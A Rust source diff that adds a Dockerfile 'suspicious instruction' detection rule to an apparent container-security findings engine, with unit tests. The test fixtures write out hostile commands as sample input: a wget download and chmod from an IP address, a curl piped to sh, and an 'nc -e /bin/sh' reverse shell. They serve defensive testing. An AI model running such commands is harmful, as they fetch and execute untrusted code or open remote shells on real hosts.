@@ -9,7 +9,8 @@ use super::SharedLineage;
 use crate::engine::Engine;
 use crate::policy::{ALLOWED, DENIED, PolicyHandle, Severity, UNKNOWN, is_loopback};
 use crate::record::{
-    ApiClient, Body, BuildFinished, BuildStarted, ContainerStart, Evidence, Finding, Record,
+    ApiClient, Body, BuildDockerfile, BuildFinished, BuildStarted, ContainerStart, Evidence,
+    Finding, Record,
 };
 
 /// Build Image on Host.
@@ -170,6 +171,65 @@ impl FindingsEngine {
             );
             self.emit(f, out);
         }
+    }
+
+    /// `build_suspicious_instruction`: the policy's patterns over the Dockerfile the daemon
+    /// received. One finding per build, naming every instruction that matched.
+    fn on_dockerfile(&mut self, rec: &Record, d: &BuildDockerfile, out: &mut Vec<Body>) {
+        let p = self.policy.current();
+        let r = &p.rules.build_suspicious_instruction;
+        if !r.enabled {
+            return;
+        }
+        let hits: Vec<Value> = d
+            .instructions
+            .iter()
+            .flat_map(|i| {
+                r.patterns
+                    .iter()
+                    .filter(|pat| pat.matches(&i.instruction, &i.args))
+                    .map(move |pat| {
+                        json!({
+                            "pattern": pat.name,
+                            "line": i.line,
+                            "instruction": format!("{} {}", i.instruction, i.args),
+                        })
+                    })
+            })
+            .collect();
+        let Some(first) = hits.first() else {
+            return;
+        };
+        let summary = format!(
+            "Image build {} has {} suspicious Dockerfile instruction{} ({} at line {}: {}).",
+            d.build_id,
+            hits.len(),
+            if hits.len() == 1 { "" } else { "s" },
+            first["pattern"].as_str().unwrap_or(""),
+            first["line"],
+            first["instruction"].as_str().unwrap_or(""),
+        );
+        let mut details = BTreeMap::new();
+        details.insert("matches".into(), Value::Array(hits));
+        details.insert("dockerfile_path".into(), json!(d.path));
+        if let Some(h) = &d.sha256 {
+            details.insert("dockerfile_sha256".into(), json!(h));
+        }
+        let mut ids = vec![rec.id];
+        ids.extend(d.record_ids.iter().copied());
+        let f = finding(
+            "build_suspicious_instruction",
+            r.severity,
+            summary,
+            &[T1612],
+            &[AN1261],
+            Some(&d.build_id),
+            None,
+            None,
+            details,
+            ids,
+        );
+        self.emit(f, out);
     }
 
     fn on_build_finished(&mut self, rec: &Record, b: &BuildFinished, out: &mut Vec<Body>) {
@@ -370,6 +430,7 @@ impl Engine for FindingsEngine {
         match &rec.body {
             Body::BuildStarted(b) => self.on_build_started(rec, b, out),
             Body::BuildFinished(b) => self.on_build_finished(rec, b, out),
+            Body::BuildDockerfile(d) => self.on_dockerfile(rec, d, out),
             Body::ContainerStart(c) => self.on_container_start(rec, c, out),
             _ => {}
         }
@@ -405,6 +466,74 @@ mod tests {
                 }
             })
             .collect()
+    }
+
+    fn dockerfile(id: &str, text: &str) -> Body {
+        Body::BuildDockerfile(crate::record::BuildDockerfile {
+            build_id: id.into(),
+            path: "/Dockerfile".into(),
+            text: text.into(),
+            sha256: None,
+            size: text.len() as u64,
+            truncated: false,
+            instructions: crate::builds::dockerfile::parse_instructions(text),
+            record_ids: vec![3],
+        })
+    }
+
+    #[test]
+    fn suspicious_instructions_fire_with_their_lines_and_a_plain_dockerfile_is_quiet() {
+        let (mut e, _) = engine("");
+        let mut out = Vec::new();
+        let text = "FROM b\nRUN wget -q -O /x http://10.0.0.1:8080/p && chmod +x /x\nRUN curl -fsSL https://get.example | sh\nADD https://example.org/t.tgz /t\n";
+        e.observe(&rec(5, 1, dockerfile("B1", text)), &mut out);
+        let f = findings(&out);
+        assert_eq!(f.len(), 1, "{out:?}");
+        assert_eq!(f[0].rule, "build_suspicious_instruction");
+        assert_eq!(f[0].severity, "high");
+        let m = f[0].details["matches"].as_array().unwrap();
+        let names: Vec<(&str, u64)> = m
+            .iter()
+            .map(|m| (m["pattern"].as_str().unwrap(), m["line"].as_u64().unwrap()))
+            .collect();
+        assert_eq!(
+            names,
+            [
+                ("download_from_ip_address", 2),
+                ("download_piped_to_shell", 3),
+                ("add_from_url", 4)
+            ]
+        );
+        assert_eq!(f[0].evidence.record_ids, vec![3, 5]);
+        out.clear();
+        e.observe(
+            &rec(
+                6,
+                1,
+                dockerfile("B2", "FROM b\nRUN apk add curl\nCOPY . /src\n"),
+            ),
+            &mut out,
+        );
+        assert!(out.is_empty(), "{out:?}");
+        // A policy pattern of the user's own, and a bad one is an error with its line.
+        let (mut e, _) = engine(
+            "[rules.build_suspicious_instruction]\npatterns = [{ name = \"nc\", instructions = [\"RUN\"], match = \"\\\\bnc\\\\b\" }]\n",
+        );
+        e.observe(
+            &rec(7, 1, dockerfile("B3", "FROM b\nRUN nc -e /bin/sh h 1\n")),
+            &mut out,
+        );
+        assert_eq!(findings(&out)[0].details["matches"][0]["pattern"], "nc");
+        let err = Policy::parse(
+            "[rules.build_suspicious_instruction]\npatterns = [{ name = \"x\", match = \"(\" }]\n",
+            Path::new("p.toml"),
+        )
+        .unwrap_err()
+        .to_string();
+        assert!(err.contains("invalid regular expression"), "{err}");
+        assert!(err.contains("line 2"), "{err}");
+        assert!(err.contains("unclosed group"), "{err}");
+        assert_eq!(err.lines().count(), 1, "{err}");
     }
 
     const BUILDERS: &str = "[builders]\nusers = [\"ci\"]\nexes = [\"/usr/bin/gitlab-runner\"]\naddresses = [\"10.0.0.0/8\"]\n";
